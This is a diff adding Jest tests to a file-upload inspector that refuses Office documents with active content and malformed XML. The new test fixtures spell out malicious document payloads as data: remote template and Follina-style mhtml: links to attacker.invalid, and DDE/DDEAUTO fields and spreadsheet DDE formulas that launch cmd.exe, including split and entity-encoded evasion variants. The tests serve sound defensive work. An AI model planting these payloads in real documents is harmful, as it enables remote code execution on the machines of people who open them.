@@ -2,7 +2,11 @@ import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { deflateRawSync } from 'node:zlib';
 import { AppError } from '@intake/shared';
 import {
+  complexField,
   docm,
+  docxWithAttachedTemplate,
+  docxWithBody,
+  docxWithExternalLink,
   docxWithVbaRelationship,
   EXECUTABLE_HEADS,
   gzipped,
@@ -20,6 +24,7 @@ import {
   sharedLocalHeaderZip,
   unicodePathExtra,
   vbaProjectOle2,
+  xlsxWithParts,
 } from '../../test/archives.js';
 import { iso9660, v7Tar } from '../../test/disk-images.js';
 import { buildRar } from '../../test/rar-writer.js';
@@ -420,7 +425,93 @@ describe('inspectZip refuses macros (archive_macro)', () => {
   });
 });
 
+describe('inspectZip refuses active content without macros (document_active_content)', () => {
+  const sheet = (formula: string): string =>
+    '<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
+    `<sheetData><row r="1"><c r="A1"><f>${formula}</f><v>0</v></c></row></sheetData></worksheet>`;
+
+  it.each([
+    ['an http template', 'http://attacker.invalid/t.dotm'],
+    ['a UNC template', '\\\\attacker.invalid\\share\\t.dotm'],
+    ['a WebDAV file URL', 'file://attacker.invalid/share/t.dotm'],
+  ])('refuses a remote attachedTemplate: %s', async (_label, target) => {
+    await expectRefused(docxWithAttachedTemplate(target), 'document_active_content');
+  });
+
+  it('refuses an external oleObject with an mhtml: target (Follina) and remote subDocument and frame', async () => {
+    const follina = 'mhtml:http://attacker.invalid/x.html!x-usc:http://attacker.invalid/x.html';
+    await expectRefused(docxWithExternalLink('oleObject', follina), 'document_active_content');
+    await expectRefused(docxWithExternalLink('oleObject', 'https://attacker.invalid/o.bin'), 'document_active_content');
+    await expectRefused(
+      docxWithExternalLink('subDocument', 'https://attacker.invalid/s.docx'),
+      'document_active_content',
+    );
+    await expectRefused(docxWithExternalLink('frame', 'https://attacker.invalid/f.html'), 'document_active_content');
+  });
+
+  it('refuses DDE and DDEAUTO fields, simple, complex, split over runs and spelled with references', async () => {
+    const simple = '<w:fldSimple w:instr=" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; "/>';
+    await expectRefused(docxWithBody(simple), 'document_active_content');
+    await expectRefused(docxWithBody(complexField(['DDE cmd "/c calc" A1'])), 'document_active_content');
+    await expectRefused(docxWithBody(complexField([' DD', 'EAU', 'TO cmd "/c calc"'])), 'document_active_content');
+    await expectRefused(docxWithBody(complexField([' &#x44;DEAUTO cmd'])), 'document_active_content');
+  });
+
+  it('refuses a DDE link and a DDE formula in a workbook', async () => {
+    await expectRefused(
+      xlsxWithParts({
+        'xl/externalLinks/externalLink1.xml':
+          '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' +
+          '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
+      }),
+      'document_active_content',
+    );
+    await expectRefused(
+      xlsxWithParts({ 'xl/worksheets/sheet1.xml': sheet('cmd|&apos; /c calc&apos;!A0') }),
+      'document_active_content',
+    );
+  });
+
+  it('refuses a document with active content nested in a zip', async () => {
+    const inner = await docxWithBody(complexField(['DDEAUTO cmd']));
+    await expectRefused(zipOf({ 'letter.docx': inner }), 'document_active_content');
+  });
+
+  it('passes a local template, a hyperlink, ordinary fields and formulas', async () => {
+    await expect(
+      inspect(await docxWithAttachedTemplate('file:///C:\\Users\\me\\Templates\\Letter.dotx')),
+    ).resolves.toBeUndefined();
+    await expect(
+      inspect(await docxWithExternalLink('oleObject', 'file:///C:\\data\\figures.xlsx')),
+    ).resolves.toBeUndefined();
+    await expect(
+      inspect(
+        await docx({
+          extraEntries: {
+            'word/_rels/document.xml.rels':
+              '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
+              '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" ' +
+              'Target="https://example.org/" TargetMode="External"/></Relationships>',
+          },
+        }),
+      ),
+    ).resolves.toBeUndefined();
+    await expect(
+      inspect(
+        await docxWithBody(complexField([' PAGE '], '1') + '<w:fldSimple w:instr=" DATE \\@ &quot;d MMMM&quot; "/>'),
+      ),
+    ).resolves.toBeUndefined();
+    await expect(
+      inspect(await xlsxWithParts({ 'xl/worksheets/sheet1.xml': sheet('SUM(B1:B9)&amp;"a|b!c"') })),
+    ).resolves.toBeUndefined();
+  });
+});
+
 describe('inspectZip refuses what it cannot read (archive_unreadable)', () => {
+  it('refuses a document part that is not well-formed XML', async () => {
+    await expectRefused(docxWithBody('<w:r><w:t>unclosed</w:r>'), 'archive_unreadable');
+  });
+
   it('refuses an encrypted entry', async () => {
     await expectRefused(rawZip([{ name: 'secret.txt', content: 'x', flags: 0x1 }]), 'archive_unreadable');
   });
